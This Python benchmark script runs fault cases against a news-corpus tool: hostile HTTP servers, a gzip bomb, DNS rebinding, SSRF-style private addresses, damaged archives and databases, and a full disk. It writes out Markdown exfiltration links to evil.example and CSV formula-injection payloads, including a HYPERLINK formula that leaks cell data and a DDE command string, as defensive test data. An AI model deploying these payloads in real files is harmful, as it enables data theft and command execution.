"""Fault table: hostile servers, hostile data, damaged archives and a damaged or full store.

Each fault kind is run against the real components (a hostile HTTP server on 127.0.0.1
from tests/faults/hostile.py, real files, real SQLite stores, the real CLI) and judged:

- survived: the run ended within its configured deadline, with no traceback, the fault
  reported with its reason and the documented exit code;
- items lost: good items (pages, records, documents) that were there to keep and are not
  in the store afterwards (after the rerun, where the fault kind has one);
- items duplicated: items stored twice, or pages fetched again although they were fetched
  and could have been kept.

Prints one row per fault kind and the totals line "fault kinds tried / survived / items
lost / items duplicated" that the README carries. The fault suite in tests/faults asserts
the same cases one by one. Takes about a minute.

Run: python bench/bench_faults.py
"""

from __future__ import annotations

import gzip
import json
import sqlite3
import sys
import tempfile
import threading
import time
import tracemalloc
from collections import defaultdict
from dataclasses import dataclass, replace
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "tests" / "faults"))

from hostile import (HostileServer, article, damage, dripping_body, dripping_headers, make_warc,  # noqa: E402
                     send, write_junk, write_pages)
from stories import write_stories  # noqa: E402
from typer.testing import CliRunner  # noqa: E402

from arahan.app.safe import esc  # noqa: E402
from arahan.cli import app  # noqa: E402
from arahan.corpus.batch import import_paths  # noqa: E402
from arahan.corpus.csvcell import safe_cell  # noqa: E402
from arahan.corpus.discover import sitemap_urls  # noqa: E402
from arahan.corpus.engine import LocalEngine  # noqa: E402
from arahan.corpus.fetch import Fetcher, FetchOptions  # noqa: E402
from arahan.corpus.netguard import address_problem  # noqa: E402
from arahan.corpus.ingest import IngestOptions, ingest  # noqa: E402
from arahan.store.database import Store  # noqa: E402

QUICK = FetchOptions(user_agent="ArahanFaults/1.0", delay=0.0, connect_timeout=1.0, read_timeout=1.0, deadline=2.0,
                     retries=2, backoff=0.05, max_retry_after=1.0, max_wait_per_url=3.0, allow_private=True)
CLI = CliRunner()


@dataclass
class Row:
    area: str
    kind: str
    survived: bool
    lost: int = 0
    duplicated: int = 0
    note: str = ""


FAULTS = []


def fault(area: str, kind: str):
    def register(fn):
        FAULTS.append((area, kind, fn))
        return fn
    return register


def _docs(db: Path) -> list[str]:
    with Store.open(db, readonly=True) as store:
        return [r["canonical_url"] for r in store.query("SELECT canonical_url FROM documents")]


def _clean_exit(result, code: int) -> bool:
    return result.exit_code == code and "Traceback" not in result.output and (
        result.exception is None or isinstance(result.exception, SystemExit))


def _good_pages(server: HostileServer, n: int, first: int = 100) -> list[str]:
    paths = [f"/baik/{i}" for i in range(n)]
    for i, path in enumerate(paths):
        server.routes[path] = (lambda k: lambda h, c: send(h, 200, article(f"Berita Baik {k}", first + k)))(i)
    return [server.base + p for p in paths]


def _ingest_with(tmp: Path, name: str, route, options: FetchOptions = QUICK) -> Row:
    """A bad URL between good ones on one host: the bad one is recorded, the good ones stored."""
    with HostileServer() as server:
        server.routes["/buruk"] = route(server)
        good = _good_pages(server, 3)
        db = tmp / f"{name}.db"
        started = time.monotonic()
        with Store.open(db) as store:
            ingest(store, IngestOptions(urls=[server.base + "/buruk", *good], fetch=options), LocalEngine(threads=2))
            bad = store.url_state(server.base + "/buruk") or {}
        took = time.monotonic() - started
        stored = _docs(db)
        lost = sum(1 for u in good if u not in stored)
        dup = len(stored) - len(set(stored))
        budget = options.response_deadline * (options.retries + 1) + options.max_wait_per_url + 5
        return Row("fetch", name, bad.get("status") in ("failed", "retry") and took < budget and not lost, lost, dup,
                   f"{bad.get('status')}: {(bad.get('reason') or '')[:60]} ({took:.1f} s)")


@fault("fetch", "body dripped one byte at a time")
def _drip_body(tmp):
    return _ingest_with(tmp, "drip-body", dripping_body)


@fault("fetch", "headers dripped one byte at a time")
def _drip_headers(tmp):
    return _ingest_with(tmp, "drip-headers", dripping_headers)


@fault("fetch", "Retry-After: 100000")
def _retry_after(tmp):
    return _ingest_with(tmp, "retry-after", lambda s: lambda h, c: send(h, 503, b"sibuk", "text/plain",
                                                                           {"Retry-After": "100000"}))


@fault("fetch", "endless 503 with short Retry-After")
def _endless_503(tmp):
    return _ingest_with(tmp, "endless-503", lambda s: lambda h, c: send(h, 503, b"sibuk", "text/plain",
                                                                           {"Retry-After": "1"}))


@fault("fetch", "gzip bomb sitemap (200 MB inflated)")
def _gzip_bomb(tmp):
    with HostileServer() as server:
        bomb = gzip.compress(b"<urlset>" + b" " * 200_000_000)
        server.routes["/sitemap.xml.gz"] = lambda h, c: send(h, 200, bomb, "application/gzip")
        tracemalloc.start()
        result = Fetcher(QUICK).fetch(server.base + "/sitemap.xml.gz", kind="xml")
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return Row("fetch", "gzip bomb sitemap (200 MB inflated)", not result.ok and peak < 120_000_000,
                   note=f"{result.reason[:50]}; peak {peak / 1e6:.0f} MB")


@fault("fetch", "50,000-entry sitemap over the page cap")
def _big_sitemap(tmp):
    with HostileServer() as server:
        entries = "".join(f"<url><loc>{server.base}/berita/2024/06/{i % 28 + 1:02d}/kabar-daerah-nomor-{i}</loc>"
                          f"<lastmod>2024-06-{i % 28 + 1:02d}</lastmod></url>\n" for i in range(50_000))
        body = f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>'.encode()
        server.routes["/sitemap.xml"] = lambda h, c: send(h, 200, body, "application/xml")
        found = len(list(sitemap_urls(Fetcher(replace(QUICK, deadline=30.0)), server.base + "/sitemap.xml")))
        return Row("fetch", "50,000-entry sitemap over the page cap", found == 50_000, 50_000 - found,
                   note=f"{len(body) / 1e6:.1f} MB, {found:,} URLs")


@fault("fetch", "DNS rebinding to 127.0.0.1")
def _rebinding(tmp):
    import arahan.corpus.netguard as netguard

    server = HostileServer()
    real = netguard.socket.getaddrinfo
    calls = {"n": 0}
    try:
        server.routes["/berita"] = lambda h, c: send(h, 200, article("Rebind"))
        port = int(server.base.rsplit(":", 1)[1])

        def rebinding(host, port_, *a, **k):
            calls["n"] += 1
            addr = "93.184.216.34" if calls["n"] == 1 else "127.0.0.1"
            return [(netguard.socket.AF_INET, netguard.socket.SOCK_STREAM, 6, "", (addr, port_ or port))]

        netguard.socket.getaddrinfo = rebinding
        result = Fetcher(replace(QUICK, allow_private=False, respect_robots=False)).fetch(
            f"http://rebind.example:{port}/berita")
        return Row("fetch", "DNS rebinding to 127.0.0.1", not result.ok and server.hits["/berita"] == 0,
                   note=(result.reason or "")[:60])
    finally:
        netguard.socket.getaddrinfo = real
        server.close()


@fault("fetch", "unresolvable host")
def _unresolvable(tmp):
    result = Fetcher(replace(QUICK, allow_private=False)).fetch("http://tidak-ada-sama-sekali.invalid/x")
    return Row("fetch", "unresolvable host", not result.ok and "not found" in result.reason, note=result.reason[:60])


@fault("fetch", "non-global addresses (18 forms)")
def _addresses(tmp):
    forms = ["127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "100.64.0.1", "100.100.100.200", "169.254.169.254",
             "0.0.0.0", "224.0.0.1", "::1", "fc00::1", "fe80::1", "::ffff:127.0.0.1", "2002:7f00:1::1",
             "2002:a00:1::1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b:1::a00:1"]
    let_through = [a for a in forms if address_problem("h", a) is None]
    return Row("fetch", "non-global addresses (18 forms)", not let_through, note=", ".join(let_through) or "all refused")


@fault("fetch", "Ctrl-C mid-ingest, then rerun")
def _ctrl_c(tmp):
    from arahan.corpus import writer as writer_mod

    server = HostileServer()
    original = writer_mod.Writer.write
    calls = {"n": 0}

    def write(self, result):
        calls["n"] += 1
        if calls["n"] == 3:
            raise KeyboardInterrupt
        return original(self, result)

    try:
        urls = _good_pages(server, 12)
        db = tmp / "ctrl-c.db"
        options = replace(QUICK, per_host=2, read_timeout=5.0, deadline=10.0)
        writer_mod.Writer.write = write
        with Store.open(db) as store:
            first = ingest(store, IngestOptions(urls=urls, fetch=options, batch_size=3), LocalEngine(threads=2))
        writer_mod.Writer.write = original
        with Store.open(db) as store:
            ingest(store, IngestOptions(urls=urls, fetch=options), LocalEngine(threads=2))
        stored = _docs(db)
        fetched_twice = sum(max(0, n - 1) for n in server.hits.values())
        lost = sum(1 for u in urls if u not in stored)
        return Row("fetch", "Ctrl-C mid-ingest, then rerun", first.interrupted and not lost and not fetched_twice,
                   lost, fetched_twice + len(stored) - len(set(stored)), f"{calls['n']} writes")
    finally:
        writer_mod.Writer.write = original
        server.close()


def _import_row(kind: str, tmp: Path, paths: list[Path], expected: set[str], must_report: int, **kw) -> Row:
    db = tmp / f"{abs(hash(kind))}.db"
    with Store.open(db) as store:
        summary = import_paths(store, [str(p) for p in paths], LocalEngine(), **kw)
        reasons = [f["reason"] for f in store.failures()]
    stored = _docs(db)
    lost = len(expected - set(stored))
    extra = len(set(stored) - expected)
    return Row("import", kind, not lost and not extra and summary.counts["failed"] == must_report == len(reasons),
               lost, len(stored) - len(set(stored)), "; ".join(r[:40] for r in reasons[:2]))


def _damaged_warc(gz: bool):
    def run(tmp):
        path = tmp / ("rusak.warc.gz" if gz else "rusak.warc")
        damage(path, make_warc(path, 5, gz), 2)
        keep = {f"https://kabar.example/berita/{i}" for i in (0, 1, 3, 4)}
        return _import_row(path.name, tmp, [path], keep, 1)
    return run


for _gz in (True, False):
    fault("import", f"one damaged record in a {'.warc.gz' if _gz else '.warc'}")(_damaged_warc(_gz))


@fault("import", ".warc.gz cut at 55%")
def _warc_cut(tmp):
    path = tmp / "potong.warc.gz"
    offsets = make_warc(path, 5, True)
    data = path.read_bytes()
    cut = int(len(data) * 0.55)
    path.write_bytes(data[:cut])
    keep = {f"https://kabar.example/berita/{i}" for i, o in enumerate(offsets[1:]) if o <= cut}
    return _import_row(".warc.gz cut at 55%", tmp, [path], keep, 1)


@fault("import", "garbage and 0-byte .warc/.warc.gz/.jsonl")
def _garbage(tmp):
    folder = tmp / "sampah"
    write_junk(folder)
    return _import_row("garbage and 0-byte .warc/.warc.gz/.jsonl", tmp, [folder], set(), 5)


@fault("import", "JSON Lines fields of the wrong type")
def _jsonl_types(tmp):
    path = tmp / "kiriman.jsonl"
    rows = [{"url": "https://kabar.example/j1", "html": article("Kabar Baik", 1).decode()}, {"text": 123},
            {"html": ["a"]}, {"url": 5, "text": "Bupati meminta warga tenang."}]
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    return _import_row("JSON Lines fields of the wrong type", tmp, [path], {"https://kabar.example/j1"}, 3)


@fault("import", "100 MB HTML file")
def _huge_html(tmp):
    path = tmp / "raksasa.html"
    with path.open("wb") as fh:
        fh.write(b"<html><body>")
        for _ in range(100):
            fh.write(b"<p>" + b"kata " * 200_000 + b"</p>")
    tracemalloc.start()
    row = _import_row("100 MB HTML file", tmp, [path], set(), 1)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    row.survived = row.survived and peak < 50_000_000
    row.note = f"{row.note}; peak {peak / 1e6:.1f} MB"
    return row


@fault("import", "two imports at once on one store")
def _concurrent(tmp):
    dirs = write_stories(tmp / "cerita", stories=45, copies=9, parts=2)

    def grouping(db):
        groups = defaultdict(set)
        with Store.open(db, readonly=True) as store:
            for r in store.query("SELECT id, story_id, canonical_url FROM documents"):
                groups[r["story_id"] or r["id"]].add(r["canonical_url"].rsplit("/", 1)[1])
        return {frozenset(g) for g in groups.values()}

    one = tmp / "sekali.db"
    with Store.open(one) as store:
        import_paths(store, [str(d) for d in dirs], LocalEngine())
    both = tmp / "bersama.db"
    Store.open(both).close()

    def run(folder):
        with Store.open(both) as store:
            import_paths(store, [str(folder)], LocalEngine())

    threads = [threading.Thread(target=run, args=(d,)) for d in dirs]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stored, expected = _docs(both), set(_docs(one))
    got = grouping(both)
    return Row("import", "two imports at once on one store", got == grouping(one), len(expected - set(stored)),
               len(stored) - len(set(stored)), f"{len(got)} stories (one run: {len(grouping(one))})")


@fault("store", "--db path with '#' and '?'")
def _uri_chars(tmp):
    decoy = Store.open(tmp / "a.db")
    decoy.start_run("decoy")
    decoy.close()
    ok = True
    for odd in ("a.db#", "a.db?mode=rw"):
        (tmp / odd).mkdir()
        real = tmp / odd / "s.db"
        Store.open(real).close()
        with Store.open(real, readonly=True) as store:
            ok &= not store.runs()
            try:
                store.conn.execute("CREATE TABLE sneaky (x)")
                ok = False
            except sqlite3.OperationalError:
                pass
    return Row("store", "--db path with '#' and '?'", ok, note="right file, read-only" if ok else "wrong file or writable")


@fault("store", "mistyped --db for 4 non-creating commands")
def _missing(tmp):
    commands = [["extract"], ["graph", "build"], ["reextract"], ["entities", "merge", "person:a@1", "person:b@1"]]
    bad = [c[0] for c in commands
           if not _clean_exit(CLI.invoke(app, [*c, "--db", str(tmp / "salah.db")]), 3) or (tmp / "salah.db").exists()]
    return Row("store", "mistyped --db for 4 non-creating commands", not bad, note=", ".join(bad) or "exit 3, no file made")


@fault("store", "WAL index cannot be made (read-only media stand-in)")
def _readonly_media(tmp):
    db = tmp / "cd.db"
    with Store.open(db) as store:
        store.start_run("import")
    Path(str(db) + "-shm").mkdir()
    result = CLI.invoke(app, ["runs", "--db", str(db)])
    return Row("store", "WAL index cannot be made (read-only media stand-in)", _clean_exit(result, 0), note=f"exit {result.exit_code}")


@fault("store", "damaged pages in the database file")
def _damaged_db(tmp):
    db = tmp / "rusak.db"
    folder = write_pages(tmp / "bahan-rusak", 6)
    CLI.invoke(app, ["import", str(folder), "--db", str(db)])
    data = bytearray(db.read_bytes())
    for start in range(4096, len(data), 4096):
        data[start + 100:start + 600] = b"\xde\xad" * 250
    db.write_bytes(bytes(data))
    codes = [CLI.invoke(app, [*c, "--db", str(db)]) for c in (["extract"], ["graph", "build"], ["reextract"], ["status"])]
    return Row("store", "damaged pages in the database file", all(_clean_exit(r, 3) for r in codes),
               note="exit " + ",".join(str(r.exit_code) for r in codes))


@fault("store", "disk full in the middle of an import")
def _disk_full(tmp):
    db = tmp / "penuh.db"
    folder = write_pages(tmp / "bahan-penuh", 40, first=10)
    Store.open(db).close()
    original = Store._connect

    def small_disk(path, readonly):
        conn = original(path, readonly)
        conn.execute(f"PRAGMA max_page_count = {conn.execute('PRAGMA page_count').fetchone()[0] + 3}")
        return conn

    Store._connect = staticmethod(small_disk)
    try:
        full = CLI.invoke(app, ["import", str(folder), "--db", str(db)])
    finally:
        Store._connect = staticmethod(original)
    with Store.open(db, readonly=True) as store:
        status = store.runs(limit=1)[0]["status"]
    again = CLI.invoke(app, ["import", str(folder), "--db", str(db)])
    stored = _docs(db)
    return Row("store", "disk full in the middle of an import",
               _clean_exit(full, 3) and status == "failed" and again.exit_code == 0, 40 - len(set(stored)),
               len(stored) - len(set(stored)), f"exit {full.exit_code}, run {status}, rerun exit {again.exit_code}")


@fault("store", "bad option values (6 invocations)")
def _bad_options(tmp):
    db = tmp / "ada.db"
    Store.open(db).close()
    (tmp / "berkas").write_text("x")
    calls = [["graph", "who", "X", "--from", "notadate"], ["graph", "top", "--type", "bogus"], ["reextract", "99999"],
             ["graph", "export", "--out", str(tmp / "berkas" / "g.graphml")], ["graph", "export", "--out", "/proc/g.gexf"],
             ["entities", "list", "--type", "Alien"]]
    bad = [" ".join(c[:2]) for c in calls if not _clean_exit(CLI.invoke(app, [*c, "--db", str(db)]), 2)]
    return Row("store", "bad option values (6 invocations)", not bad, note=", ".join(bad) or "exit 2, one line each")


@fault("app", "Markdown in titles, outlets, names")
def _markdown(tmp):
    payloads = ["![x](http://evil.example/p.png)", "a\n\n![y](http://evil.example/q.png)", "[klik](http://evil.example)",
                "**tebal** $x$ `kode`", "- daftar", "1. daftar"]
    leaks = [p for p in payloads if any(s in esc(p) for s in ("![", "](", "\n", "**", "$", "`"))
             or esc(p)[:1] in "-1"]
    return Row("app", "Markdown in titles, outlets, names", not leaks,
               note="escaped; the browser check is tests/app/test_hostile_markdown.py")


@fault("app", "CSV formula injection (graph export, downloads)")
def _csv(tmp):
    from arahan.app.fixtures import generate_store

    db = tmp / "csv.db"
    generate_store(db, directives=20, seed=3)
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
    with sqlite3.connect(db) as conn:
        ids = [r[0] for r in conn.execute("SELECT id FROM graph_nodes WHERE type = 'Person' LIMIT 6")]
        for node, payload in zip(ids, payloads):
            conn.execute("UPDATE graph_nodes SET label = ? WHERE id = ?", (payload, node))
    out = tmp / "ekspor"
    CLI.invoke(app, ["graph", "export", "--format", "csv", "--out", str(out), "--db", str(db)])
    import csv

    with (out / "nodes.csv").open(newline="", encoding="utf-8") as fh:
        risky = [c for row in csv.reader(fh) for c in row if safe_cell(c) != c]
    return Row("app", "CSV formula injection (graph export, downloads)", not risky, note=f"{len(risky)} formula cells")


def main() -> None:
    rows = []
    for area, kind, fn in FAULTS:
        with tempfile.TemporaryDirectory() as tmp:
            try:
                r = fn(Path(tmp))
            except Exception as exc:  # noqa: BLE001 - a crash of a fault kind is a failure of it, reported
                r = Row(area, kind, False, note=f"crashed: {type(exc).__name__}: {exc}"[:90])
        r.area, r.kind = area, kind
        rows.append(r)
        print(f"{r.area:<7} {r.kind:<48} {'survived' if r.survived else 'FAILED':<9} lost {r.lost:<3} "
              f"dup {r.duplicated:<3} {r.note}", flush=True)
    print()
    print("| fault kinds tried | survived | items lost | items duplicated |")
    print("|---|---|---|---|")
    print(f"| {len(rows)} | {sum(r.survived for r in rows)} | {sum(r.lost for r in rows)} | "
          f"{sum(r.duplicated for r in rows)} |")


if __name__ == "__main__":
    main()
